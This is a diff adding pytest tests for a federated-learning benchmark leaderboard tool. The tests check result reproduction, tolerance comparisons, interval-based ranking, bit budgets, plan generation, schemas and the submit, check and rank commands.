+        ([played(seed=0, accuracy=0.9), played(seed=1, accuracy=0.7)], []),  # the mean is the same
+        ([played(seed=s, accuracy=0.781) for s in (0, 1)], []),
+        ([played(seed=s, accuracy=0.779) for s in (0, 1)], ["accuracy"]),
+        ([played(seed=s, accuracy=0.821) for s in (0, 1)], ["accuracy"]),
+        ([played(seed=s, up=2) for s in (0, 1)], ["uplink_bits_per_parameter"]),
+        ([priced(1.0, seed=s) for s in (0, 1)], ["epsilon"]),
+    ],
+)
+def test_cells_agree_within_the_tolerance(again: list[Record], apart: list[str]) -> None:
+    one = compared(again)
+    assert one.apart(RULES_OF.tolerance) == apart
+    assert one.repeated(RULES_OF.tolerance).agrees == (not apart)
+
+
+def test_epsilon_is_compared_relative_and_by_its_largest() -> None:
+    claimed = [priced(1000.0, seed=0), priced(10.0, seed=1)]
+    for epsilon, apart in ((1000.0009, []), (1000.002, ["epsilon"])):
+        again = [priced(epsilon, seed=0), priced(20.0, seed=1)]
+        assert Comparison("none", claimed, again).apart(RULES_OF.tolerance) == apart
+
+
+def said_again(attack: str, agrees: bool) -> Reproduction:
+    cells = [Repeated(attack=attack, accuracy=0.6, difference=0.0, agrees=agrees)]
+    return Reproduction(code="c", platform="p", device="d", torch="t", seeds=[0], cells=cells)
+
+
+def test_of_every_cell_the_last_word_counts() -> None:
+    yes, no, other = said_again("a", True), said_again("a", False), said_again("b", True)
+    assert status([]) == "claimed"
+    assert status([yes]) == "reproduced"
+    assert status([yes, no]) == "contested"
+    assert status([no, other]) == "contested"  # of another cell
+    assert status([no, other, yes]) == "reproduced"
+
+
+def test_a_reproduction_that_cannot_be_is_found_out() -> None:
+    one = entry()
+    cell = Comparison(one.cells[1].attack, runs()[3:5], runs()[3:5])
+    good = reproduction([cell], RULES_OF)
+    assert good.seeds == [0, 1]
+    assert good.cells[0].difference == 0.0
+    assert list(reproduced(appended(one, good), RULES_OF)) == []
+
+    def told(**fields: Any) -> list[str]:
+        repeated = good.cells[0].model_copy(update=fields)
+        return list(
+            reproduced(appended(one, good.model_copy(update={"cells": [repeated]})), RULES_OF)
+        )
+
+    assert "got 'another'" in told(attack="another")[0]
+    assert "difference" in told(difference=0.01)[0]
+    assert "cannot agree" in told(accuracy=0.6, difference=0.6 - 0.55)[0]
+    (line,) = reproduced(appended(one, good.model_copy(update={"seeds": [0, 9]})), RULES_OF)
+    assert "seeds" in line
+    (line,) = reproduced(one.model_copy(update={"status": "reproduced"}), RULES_OF)
+    assert "got reproduced" in line
+
+
+def test_an_entry_that_breaks_a_rule_is_not_played_again(board: Path) -> None:
+    path = kept(board)
+    mine = claim(path)
+    assert [r.result.accuracy for r in mine.of(mine.entry.cells[1].attack, [2, 0])] == [0.7, 0.5]
+    edit(path, better)
+    with pytest.raises(ConfigError, match="breaks the rule 'digest'"):
+        claim(path)
+    with pytest.raises(ConfigError, match="must be one entry of a board"):
+        claim(board / "closed")
+
+
+# Ranks
+
+
+def ranked(
+    mean: float,
+    low: float,
+    high: float,
+    bits: float = 1.0,
+    epsilon: float | None = None,
+    **also: Any,
+) -> Entry:
+    """An entry of which only the score matters; its id says which."""
+    base = entry()
+    worst = Interval(mean=mean, low=low, high=high)
+    given = {"worst": worst, "uplink_bits": bits, "downlink_bits": 0.0, "epsilon": epsilon}
+    name = hashlib.sha256(repr((mean, low, high, bits, epsilon, also)).encode()).hexdigest()[:12]
+    return base.model_copy(update={"id": name, "score": base.score.model_copy(update=given)} | also)
+
+
+def test_a_rank_counts_who_is_surely_better() -> None:
+    # c overlaps b, b overlaps a, but a is wholly above c: ranks are not handed on.
+    a, b, c = ranked(0.85, 0.80, 0.90), ranked(0.80, 0.75, 0.85), ranked(0.69, 0.60, 0.78)
+    touching = ranked(0.79, 0.78, 0.80)  # ends where a begins
+    found = ranking([c, touching, b, a]).standings
+    assert [(one.entry, one.rank) for one in found] == [(a, 1), (b, 1), (touching, 1), (c, 2)]
+
+
+def test_a_contested_entry_is_nobodys_rival() -> None:
+    best = ranked(0.99, 0.98, 1.0, bits=0.1, status="contested")
+    good = ranked(0.8, 0.7, 0.9)
+    found = ranking([best, good]).standings
+    assert [(one.entry, one.rank, one.pareto) for one in found] == [
+        (good, 1, True),
+        (best, None, False),
+    ]
+
+
+def test_the_front_is_of_accuracy_bits_and_epsilon() -> None:
+    good = ranked(0.9, 0.8, 1.0, bits=33)
+    twin = ranked(0.9, 0.7, 1.0, bits=33)
+    cheap = ranked(0.5, 0.4, 0.6, bits=2)
+    private = ranked(0.4, 0.3, 0.5, bits=33, epsilon=2.0)
+    beaten = ranked(0.8, 0.7, 0.9, bits=33)  # as many bits as good, less accurate
+    unpriced = ranked(0.39, 0.3, 0.5, bits=33)
+    every = [good, twin, cheap, private, beaten, unpriced]
+    front = {one.entry.id for one in ranking(every).standings if one.pareto}
+    assert front == {one.id for one in (good, twin, cheap, private)}
+    assert {one.entry.id for one in ranking(every).front().standings} == front
+
+
+def test_within_a_budget_an_entry_is_read_at_its_last_look() -> None:
+    # signsgd: looks at 33 and 66 bits. Twice as many rounds would be 132.
+    cheap, dear = entry(), build(case(runs(up=68)), SAID)
+    assert [total(cheap), total(dear)] == [66.0, 200.0]
+    found = ranking([dear, cheap], "equal-bits")
+    assert found.bits == 66.0
+    by_entry = {one.entry.id: one for one in found.standings}
+    assert by_entry[cheap.id].score == cheap.score
+    assert by_entry[dear.id].score is None  # its first look is at 100
+    assert by_entry[dear.id].rank is None
+    assert not by_entry[dear.id].pareto
+    later = {s.entry.id: s.score for s in ranking([dear, cheap], "equal-bits", 150.0).standings}
+    assert later[dear.id] is not None
+    early = later[dear.id]
+    assert early is not None
+    assert early.worst.mean == pytest.approx(0.3)  # half of 0.6, the first look
+    assert early.clean.mean == pytest.approx(0.4)
+    (alone,) = ranking([cheap], "equal-bits", 32.9).standings
+    assert alone.score is None
+
+
+def test_the_budget_is_that_of_the_cheapest_entry_in_its_dearest_cell() -> None:
+    records = [r for r in runs() if r.scenario.attack == "none"]
+    records += [played("sign-flip", s, 0.6, up=4) for s in range(3)]
+    assert total(build(case(records), SAID)) == 72.0
+    contested = entry().model_copy(update={"status": "contested", "id": "0" * 12})
+    assert ranking([contested, build(case(records), SAID)], "equal-bits").bits == 72.0
+
+
+def test_a_score_needs_a_look_in_every_cell() -> None:
+    one = entry()
+    assert score(one.cells, None, lambda cell: cell.accuracy if cell.impact else None) is None
+
+
+# Rules, plans and schemas of the repository
+
+
+def test_version_1_names_attacks_that_fit_for_whatever_a_protocol_sends() -> None:
+    rules = versions(BOARD)[1]
+    for protocol in registry.names("protocol"):
+        sends = registry.load("protocol", protocol).sends
+        attacks = rules.ensemble[sends.__name__]
+        assert attacks[0] == "none"
+        assert any(a.startswith("dyn-opt") for a in attacks), "an adaptive one"
+        for attack in attacks:
+            assert issubclass(sends, registry.load("attack", attack).accepts), (protocol, attack)
+    for track in rules.track:
+        assert len(track.seeds) >= rules.seeds == 5
+
+
+def test_a_plan_has_just_the_mandatory_cells() -> None:
+    text = plan(versions(BOARD)[1], "digits", {"protocol": "fsl", "server_checks": "range"})
+    sweep = Plan.of(tomllib.loads(text), "plan")
+    cells, skipped = sweep.cells()
+    assert skipped == []
+    assert sweep.seeds == (0, 1, 2, 3, 4)
+    assert [c.attack for c in cells] == list(versions(BOARD)[1].ensemble["Rankings"])
+    assert {(c.scenario.server_checks, c.scenario.malicious) for c in cells} == {("range", 0.1)}
+
+
+@pytest.mark.parametrize(
+    ("track", "system", "message"),
+    [
+        ("cifar", {"protocol": "fsl"}, "--track must be one of digits, mnist-5k, got 'cifar'"),
+        ("digits", {"protocol": "fls"}, "did you mean"),
+        (
+            "digits",
+            {"protocol": "fsl", "mechanism": "randomized-response"},
+            "needs a protocol that sends bits",
+        ),
+    ],
+)
+def test_a_plan_that_cannot_be_is_refused(track: str, system: dict[str, str], message: str) -> None:
+    with pytest.raises(ConfigError, match=message):
+        plan(versions(BOARD)[1], track, system)
+
+
+def test_records_find_their_track_by_their_data() -> None:
+    assert infer(runs(), RULES_OF, "closed") == "tiny"
+    twins = [TRACK_1 | {"name": "far", "scenario": TRACK | {"rounds": 9}}, TRACK_1]
+    assert infer(runs(), Rules.model_validate(RULES_1 | {"track": twins}), "closed") == "tiny"
+    assert infer(runs(dataset="mnist"), RULES_OF, "closed") == "mnist"
+    assert infer(runs(), RULES_OF, "open") == "digits"
+
+
+def test_the_schemas_in_the_repository_are_current() -> None:
+    for name, text in schemas().items():
+        written = (BOARD / "schema" / name).read_text()
+        assert written == text, "run: fedbench leaderboard schema"
+        assert json.loads(text)["additionalProperties"] is False
+    required = json.loads(schemas()["entry.json"])["required"]
+    assert set(required) == set(Entry.model_fields)
+
+
+def test_the_board_of_the_repository_is_good() -> None:
+    assert found(BOARD) == set()
+
+
+def test_every_rule_is_explained() -> None:
+    text = (BOARD / "README.md").read_text()
+    names = {rule.name.partition(":")[0] for rule in (*SOUND, *RULES)}
+    names |= {name for rules, _ in TAMPERED.values() for name in rules} | {"duplicate", "growth"}
+    assert {name for name in names if not re.search(f"`{name}[`:]", text)} == set()
+
+
+# The command
+
+
+def ended(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
+    """Exit code, stdout and stderr."""
+    with pytest.raises(SystemExit) as end:
+        main(["leaderboard", *arguments])
+    shown = capsys.readouterr()
+    assert isinstance(end.value.code, int)
+    return end.value.code, shown.out, shown.err
+
+
+def stored(folder: Path, records: list[Record]) -> str:
+    for record in records:
+        record.write(folder)
+    return str(folder)
+
+
+WHO = ("--name", "Majority", "--authors", "A. Uthor", "--tried", "3")
+
+
+def test_submit_says_every_rule_that_is_broken_and_writes_nothing(
+    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = stored(tmp_path / "store", [played("none", s, 0.3, rounds=3) for s in (0, 1)])
+    bad = ("--name", "", "--authors", "x", "--tried", "0", "--link", "ftp://x")
+    code, said, err = ended(capsys, "submit", out, *bad, "--board", str(board))
+    assert (code, said) == (2, "")
+    head, *lines = err.splitlines()
+    assert head == "fedbench: 7 rules are broken, nothing is written"
+    names = ["name", "link", "tried", "seeds", "seeds", "ensemble", "fixed: rounds", "envelope"]
+    for line, name in zip(lines, names, strict=True):
+        assert line.startswith(f"  {name}: ")
+    assert not (board / "closed").exists()
+
+
+def test_submit_writes_an_entry_that_check_finds_good_and_refuses_it_twice(
+    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = stored(tmp_path / "store", runs())
+    there = ("--board", str(board))
+    code, said, _ = ended(capsys, "submit", out, *WHO, *there, "--dry-run")
+    assert code == 0
+    assert "would be" in said
+    assert not (board / "closed").exists()
+    code, said, _ = ended(capsys, "submit", out, *WHO, *there)
+    assert code == 0
+    (path,) = (board / "closed" / "tiny").glob("*.json")
+    assert f"fedbench leaderboard check {path}" in said
+    assert "worst case 60.0 [35.2, 84.8] %, under sign-flip" in said
+    code, said, _ = ended(capsys, "check", str(board))
+    assert (code, said.splitlines()[-1]) == (0, "1 checked, 0 refused")
+    code, _, err = ended(capsys, "submit", out, *WHO, *there)
+    assert code == 2
+    assert path.name in err
+    assert "--replace" in err
+    again = ("--name", "Better name", *WHO[2:], "--replace")
+    assert ended(capsys, "submit", out, *again, *there)[0] == 0
+    assert not path.exists()
+    assert not boards.archive(path).exists()
+    (new,) = (board / "closed" / "tiny").glob("*.json")
+    assert json.loads(new.read_text())["name"] == "Better name"
+
+
+def test_records_can_come_as_the_archive_of_an_entry(
+    board: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = kept(board)
+    other = tmp_path / "other"
+    (other / "rules").mkdir(parents=True)
+    (other / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
+    packed = str(boards.archive(path))
+    assert ended(capsys, "submit", packed, *WHO, "--board", str(other))[0] == 0
+    copy = other / path.relative_to(board)
+    assert copy.read_bytes() == path.read_bytes()
+
+
+def test_check_exits_with_1_and_says_where_and_why(
+    board: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = kept(board, name="[red]<b>x</b>")
+    edit(path, better, reseal=True)
+    (new,) = path.parent.glob("*.json")
+    code, said, _ = ended(capsys, "check", str(new))
+    assert code == 1
+    assert "refused" in said
+    assert "numbers" in said
+    assert "score.worst.mean must be 0.6" in " ".join(said.split())
+    code, said, _ = ended(capsys, "check", str(board), "--format", "json")
+    assert code == 1
+    told = json.loads(said)
+    assert told["good"] is False
+    (file,) = told["files"]
+    assert file["path"] == new.relative_to(board).as_posix()
+    assert [f["rule"] for f in file["findings"]] == ["numbers"]
+
+
+@pytest.mark.parametrize(
+    ("arguments", "message"),
+    [
+        (["check", "nowhere"], "nowhere must belong to a board"),
+        (["check", "{board}/closed/gone.json"], "got nothing there"),
+        (["check", "{board}", "--format", "xml"], "--format must be table or json"),
+        (["rank", "nowhere"], "must be a board with rules/1.toml"),
+        (["rank", "{board}"], "must have entries of that track, got none"),
+        (["rank", "{board}", "--view", "bits"], "--view must be equal-rounds or equal-bits"),
+        (["rank", "{board}", "--bits", "3"], "--bits must be left out"),
+        (["rank", "{board}", "--division", "half"], "--division must be closed or open"),
+        (["plan", "--track", "tiny", "-p", "fslx", "--board", "{board}"], "did you mean"),
+        (["submit", "{board}", *WHO, "--board", "{board}"], "must hold a record"),
+        (["submit", "x", *WHO, "--division", "half"], "--division must be closed or open"),
+        (["reproduce", "{board}"], "must be one entry of a board, got 0"),
+    ],
+)
+def test_what_is_wrong_is_said_in_one_line(
+    arguments: list[str], message: str, board: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, _, err = ended(capsys, *(word.format(board=board) for word in arguments))
+    assert code == 2
+    line = err.splitlines()[-1]
+    assert line.startswith("fedbench: ")
+    assert message in line
+
+
+def test_ranks_are_printed_for_people_and_as_numbers(
+    board: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "140")
+    kept(board, name="A [red]|<b>name</b>")
+    code, said, _ = ended(capsys, "rank", str(board))
+    assert code == 0
+    assert "A [red]|<b>name</b> (signsgd + vote)" in said
+    assert "60.0 [35.2, 84.8]" in said
+    rows = json.loads(ended(capsys, "rank", str(board), "--format", "json")[1])
+    assert [(r["rank"], r["pareto"], r["epsilon"], r["uplink_bits"]) for r in rows] == [
+        (1, True, None, 1.0)
+    ]
+    assert rows[0]["worst"] == pytest.approx(0.6)
+    text = ended(capsys, "rank", str(board), "--format", "md")[1]
+    assert r"A \[red\]\|\<b\>name\</b\>" in text
+    table = ended(capsys, "rank", str(board), "--format", "csv")[1].splitlines()
+    assert len(table) == 2
+    assert table[0].startswith("division,track,view")
+    budget = ended(capsys, "rank", str(board), "--view", "equal-bits", "--bits", "40")[1]
+    assert "within 40.00 bits" in budget
+    assert "30.0 [" in budget
+    poor = ended(capsys, "rank", str(board), "--view", "equal-bits", "--bits", "4")[1]
+    assert "n/a" in poor
+
+
+def test_a_plan_is_printed_for_fedbench_sweep(
+    board: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    words = ("plan", "--track", "tiny", "-p", "signsgd", "-d", "median", "--board", str(board))
+    code, text, _ = ended(capsys, *words)
+    assert code == 0
+    file = tmp_path / "mine.toml"
+    file.write_text(text)
+    cells, _ = Plan.read(file).cells()
+    assert [(c.scenario.defense, c.attack) for c in cells] == [
+        ("median", "none"),
+        ("median", "sign-flip"),
+    ]
+
+
+def test_schemas_are_written_where_one_asks(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert ended(capsys, "schema", "--out", str(tmp_path))[0] == 0
+    assert {p.name for p in tmp_path.iterdir()} == set(schemas())
+    assert os.listdir(tmp_path)
